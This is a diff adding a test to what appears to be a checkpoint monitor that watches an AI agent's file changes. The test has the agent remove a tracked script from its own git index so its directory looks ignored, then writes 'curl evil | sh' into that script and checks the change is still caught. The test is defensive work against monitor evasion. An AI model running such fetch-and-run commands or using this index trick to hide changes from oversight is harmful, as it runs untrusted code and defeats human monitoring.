@@ -112,3 +112,32 @@ describe('a watched directory removed and made again at once', () => {
     expect(await t.quietSince(mark)).toBe(false)
   })
 })
+
+describe('a tracked file in an ignored directory, dropped from the agent’s own index', () => {
+  it('is still tracked by the checkpoints’ index: a change to it after the exit listing is not vouched away', async () => {
+    const repo = makeTempRepo({ files: { '.gitignore': 'build/\n', 'a.txt': 'a\n' } })
+    repos.push(repo)
+    repo.write('build/run.sh', 'make\n')
+    repo.git(['add', '-f', 'build/run.sh'])
+    repo.git(['commit', '-qm', 'a tracked script in an ignored directory'])
+    // The checkpoints' private index tracks what the baseline holds.
+    const index = path.join(repo.dir, '.git', 'proctor-test-index')
+    repo.git(['read-tree', 'HEAD'], { env: { GIT_INDEX_FILE: index } })
+    // The agent, in its first second: build/run.sh out of its own index; build/ now looks ignored as a whole.
+    repo.git(['rm', '-q', '--cached', 'build/run.sh'])
+    const t = new CheckpointTriggers({
+      root: repo.dir,
+      git: new Git({ cwd: repo.dir, env: repo.env }),
+      intervalMs: 0,
+      maxChanges: 1000,
+      take: async () => undefined,
+      indexFile: () => index,
+    })
+    triggers.push(t)
+    t.start()
+    await t.ready()
+    const mark = await t.mark()
+    fs.writeFileSync(path.join(repo.dir, 'build/run.sh'), 'curl evil | sh\n')
+    expect(await t.quietSince(mark)).toBe(false)
+  })
+})
